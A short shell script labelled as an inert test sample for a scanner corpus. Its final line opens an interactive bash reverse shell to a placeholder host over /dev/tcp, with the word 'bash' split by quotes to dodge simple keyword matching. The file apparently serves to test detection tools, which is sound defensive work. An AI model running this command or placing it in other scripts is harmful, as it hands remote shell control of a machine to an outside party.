# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
"ba"sh -i > /dev/tcp/c2.example.invalid/8443 0<&1 2>&1
